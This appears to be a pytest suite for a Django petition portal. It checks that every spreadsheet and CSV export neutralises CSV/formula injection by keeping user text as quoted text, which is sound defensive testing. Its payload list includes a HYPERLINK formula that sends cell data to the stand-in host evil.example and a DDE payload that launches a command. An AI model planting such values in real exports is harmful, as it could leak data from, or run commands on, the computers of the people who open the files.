"""Every spreadsheet the portal produces is safe to open: what a citizen or an official
typed is a text cell, never a formula (CSV/formula injection, OWASP).

A petition whose title starts with "=HYPERLINK(...)", "+1", "-2" or "@SUM" goes through
each export: the units' queue, the supervisors' export, the catalog, the monthly
bulletin, the 三民 results and the draw's codes, the OGI annual report and every
django-import-export resource of the admin."""
import csv
import datetime as dt
import io

import pytest
from django.core.management import call_command
from django.utils import timezone
from openpyxl import load_workbook

from dispatch import routing
from dispatch.catalog import rule_create
from dispatch.models import Target
from evaluation.admin import CandidateResource
from evaluation.models import Campaign, Candidate, Report
from evaluation.reports import to_xlsx
from lib import spreadsheets
from org import resources
from org.models import CalendarDay, Classification, HandlingUnit, Sector
from supervision.models import CaseKind
from supervision.services import case_open
from tests.factories import file_petition, make_user

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd",
            "\t=1+1", "\r=1+1"]


def formula_cells(xlsx: bytes) -> list[str]:
    """Every cell that a spreadsheet program would run, or whose text would start one."""
    found = []
    for sheet in load_workbook(io.BytesIO(xlsx)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith(
                        spreadsheets.FORMULA_PREFIXES)):
                    found.append(f"{sheet.title}!{cell.coordinate}: {cell.value!r}")
    return found


def texts(xlsx: bytes) -> set[str]:
    return {cell.value for sheet in load_workbook(io.BytesIO(xlsx)).worksheets for row in sheet.iter_rows()
            for cell in row if isinstance(cell.value, str)}


@pytest.fixture
def petitions(city, django_capture_on_commit_callbacks):
    rule_create(key="noise-t", kind="territorial", classification=city.noise, target=Target.STREET,
                         note=PAYLOADS[0])
    routing.invalidate()
    with django_capture_on_commit_callbacks(execute=True):
        return [file_petition(city, title=payload, content=payload) for payload in PAYLOADS]


@pytest.mark.django_db
def test_the_units_queue_export(client, city, petitions):
    client.force_login(make_user("h", "unit_handler", city.street_office))
    xlsx = client.get("/dispatch/export.xlsx").content
    assert formula_cells(xlsx) == []
    assert {"'" + p for p in PAYLOADS} & texts(xlsx) == {"'" + p for p in PAYLOADS}  # readable, as text


@pytest.mark.django_db
def test_the_supervisors_export(client, city, petitions, supervisor):
    for petition in petitions:
        case_open(target=petition, kind=CaseKind.OVERDUE, reference=petition.number, title=petition.title,
                  unit=city.street_office, area=city.street)
    client.force_login(supervisor)
    xlsx = client.get("/dispatch/supervision/export.xlsx").content
    assert formula_cells(xlsx) == []
    assert "'" + PAYLOADS[2] in texts(xlsx)


@pytest.mark.django_db
def test_the_catalog_export_and_its_round_trip(client, city, petitions, platform_admin):
    rule_create(key="formula", kind="sector", classification=city.parking, keywords=PAYLOADS[3], target=Target.UNIT,
                         lead_unit=city.urban, note=PAYLOADS[2])
    client.force_login(platform_admin)
    xlsx = client.get("/admin/dispatch/catalogrule/export/").content
    assert formula_cells(xlsx) == []
    upload = io.BytesIO(xlsx)
    upload.name = "catalog.xlsx"
    assert client.post("/admin/dispatch/catalogrule/import/", {"file": upload}).status_code == 302
    from dispatch.models import CatalogRule

    rule = CatalogRule.objects.get(key="formula", active=True)
    assert (rule.version, rule.note, rule.keywords) == (1, PAYLOADS[2], PAYLOADS[3])  # unchanged by the quote
    assert CatalogRule.objects.get(key="noise-t", active=True).version == 1


@pytest.mark.django_db
def test_the_monthly_bulletin(city):
    report = Report(title=PAYLOADS[1], data={
        "districts": [], "units": [], "analysis": {"top_classifications": [
            {"name": payload, "count": 3, "change": -2} for payload in PAYLOADS]}})
    xlsx = to_xlsx(report)
    assert formula_cells(xlsx) == []
    assert "'" + PAYLOADS[0] in texts(xlsx)


def _campaign(city, **extra):
    return Campaign.objects.create(
        year=2026, title="2026三民", suggestions_open=dt.date(2026, 11, 1), suggestions_close=dt.date(2026, 12, 10),
        reports_start=dt.date(2026, 12, 14), reports_end=dt.date(2026, 12, 17),
        voting_opens_at=dt.datetime(2026, 12, 20, 1, tzinfo=dt.UTC),
        voting_closes_at=dt.datetime(2026, 12, 25, 1, tzinfo=dt.UTC), **extra)


@pytest.mark.django_db
def test_the_sanmin_results(client, city, monkeypatch):
    from evaluation import sanmin

    _campaign(city, results_published_at=timezone.now())
    monkeypatch.setattr(sanmin, "results", lambda campaign: [
        {"rank": 1, "unit": payload, "counts": {"satisfied": 3}, "score": -2.0, "assessment_points": 0.1}
        for payload in PAYLOADS])
    xlsx = client.get("/evaluation/sanmin/2026/results.xlsx").content
    assert formula_cells(xlsx) == []
    assert load_workbook(io.BytesIO(xlsx)).active["F2"].value == -2  # a number stays a number


@pytest.mark.django_db
def test_the_draws_codes(city, tmp_path, capsys):
    campaign = _campaign(city)
    for i, payload in enumerate(PAYLOADS):
        Candidate.objects.create(campaign=campaign, external_id=f"P{i}", name=payload, phone=f"139{i:08d}",
                                 district=city.district, sector=payload[:40])  # the column holds 40 characters
    call_command("sanmin_draw", "prepare", "2026", "--representatives", "3")
    seed = capsys.readouterr().out.split("SEED (keep it offline until the draw): ")[1].split()[0]
    codes = tmp_path / "codes.xlsx"
    call_command("sanmin_draw", "run", "2026", "--seed", seed, "--codes", str(codes))
    assert formula_cells(codes.read_bytes()) == []
    assert len(load_workbook(codes).active["A"]) == 4


@pytest.mark.django_db
def test_the_ogi_annual_report(client, city, platform_admin):
    """The national table names the body it is for: a body whose name is a formula stays text."""
    from disclosure.models import Body

    HandlingUnit.objects.filter(pk=city.urban.pk).update(name=PAYLOADS[0])
    body = Body.objects.create(unit=city.urban)
    client.force_login(platform_admin)
    response = client.get(f"/disclosure/report/2026/?format=xlsx&body={body.pk}")
    assert response.status_code == 200 and formula_cells(response.content) == []


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_every_admin_resource(city, fmt):
    """Each import-export resource, in the spreadsheet and the CSV the admin offers."""
    HandlingUnit.objects.filter(code="URB").update(name=PAYLOADS[0], phone="+8613900000000", email="")
    Sector.objects.filter(code="urban").update(name=PAYLOADS[3])
    Classification.objects.filter(code="010102").update(name=PAYLOADS[0], keywords=PAYLOADS[2])
    CalendarDay.objects.create(date=dt.date(2026, 3, 2), is_workday=False, name=PAYLOADS[1])
    campaign = _campaign(city)
    Candidate.objects.create(campaign=campaign, external_id="=P1", name=PAYLOADS[0], phone="+8613900000001",
                             district=city.district, sector=PAYLOADS[3])
    city.street.name = PAYLOADS[2]
    city.street.save()
    for resource in (resources.AreaResource(), resources.SectorResource(), resources.HandlingUnitResource(),
                     resources.ClassificationResource(), resources.CalendarDayResource(), CandidateResource()):
        dataset = resource.export()
        if fmt == "xlsx":
            assert formula_cells(dataset.export("xlsx")) == [], type(resource).__name__
        else:
            for row in csv.reader(io.StringIO(dataset.export("csv"))):
                assert not [v for v in row if v.startswith(spreadsheets.FORMULA_PREFIXES)], row


@pytest.mark.django_db
def test_a_resource_round_trip_keeps_the_text(city):
    # A number abroad: a mainland one written "+86…" is stored normalised when saved (HandlingUnit.save).
    HandlingUnit.objects.filter(code="URB").update(phone="+442079460000")
    dataset = resources.HandlingUnitResource().export()
    assert "'+442079460000" in dataset["phone"]
    result = resources.HandlingUnitResource().import_data(dataset, dry_run=False, raise_errors=True)
    assert not result.has_errors()
    assert HandlingUnit.objects.get(code="URB").phone == "+442079460000"
